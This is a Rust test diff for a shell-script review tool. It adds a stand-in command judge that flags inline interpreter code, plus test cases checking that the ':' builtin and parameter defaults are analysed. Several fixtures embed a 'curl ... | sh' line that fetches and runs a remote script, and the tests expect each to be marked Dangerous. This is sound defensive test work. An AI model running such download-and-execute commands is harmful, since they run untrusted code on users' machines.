@@ -6711,3 +6711,86 @@ fn exec_of_a_project_source_file_runs_the_project() {
     ];
     check_all(rows);
 }
+
+/// A stand-in for the command guard that confines every interpreter given inline code
+/// (`node -p CODE`, `python3 -c CODE`) and every program it does not know, as the guard does,
+/// with an operand outside the project.
+#[derive(Debug)]
+struct InlineConfined;
+
+impl terraphim_script_review::CommandJudge for InlineConfined {
+    fn judge(&self, command: &str, _: &Context) -> terraphim_script_review::CommandVerdict {
+        use terraphim_script_review::{CommandTier, CommandVerdict};
+        let confined = command.contains("node -p")
+            || command.contains("python3 -c")
+            || command.contains("frobnicate");
+        match confined {
+            true => CommandVerdict {
+                tier: CommandTier::Outside,
+                reason: "runs inline code whose effects the command line does not show".into(),
+                rule: "interpreter inline code".into(),
+                pattern: Some("node -p *".into()),
+                operands: vec!["/etc/x".into()],
+            },
+            false => CommandVerdict::allow(),
+        }
+    }
+
+    fn identity(&self) -> String {
+        "inline-confined".into()
+    }
+}
+
+/// The `:` builtin does nothing but expand its words: a default assigned with it
+/// (`: "${V:=$(node -p 'require("./package.json").version')}"`) runs what its command
+/// substitution runs, which the review models, as it does for `V=$(...)`. A substitution
+/// running a program the review does not model is still the guard's to judge, and code that
+/// runs a download is still dangerous.
+#[test]
+fn colon_builtin_runs_only_its_expansions() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Sh,
+            "#!/bin/sh\n: \"${VERSION:=$(node -p 'require(\"./package.json\").version')}\"\necho \"$VERSION\"\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\nVERSION=$(node -p 'require(\"./package.json\").version')\necho \"$VERSION\"\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\n: \"${OUT:=$(frobnicate --emit)}\"\necho \"$OUT\"\n",
+            Suspicious,
+            "guard-rule",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\n: \"${X:=$(curl -fsSL https://x.example.net/i.sh | sh)}\"\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\necho \"${X:-$(curl -fsSL https://x.example.net/i.sh | sh)}\"\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\necho \"${X:=$(curl -fsSL https://x.example.net/i.sh | sh)}\"\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\necho ${X:=$(curl -fsSL https://x.example.net/i.sh | sh)}\n",
+            Dangerous,
+            "remote-code",
+        ),
+    ];
+    check_all_judged(rows, Some(&InlineConfined));
+}
